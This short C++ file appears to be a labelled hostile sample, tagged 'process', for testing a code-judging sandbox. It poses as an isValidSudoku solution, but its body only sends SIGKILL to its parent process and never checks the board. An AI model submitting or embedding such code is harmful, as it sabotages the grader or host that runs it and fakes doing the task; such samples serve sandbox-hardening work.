// Kills the process that started it.
// Category: process
#include <unistd.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        if (kill(getppid(), SIGKILL) == 0) return false;
        return true;
    }
};
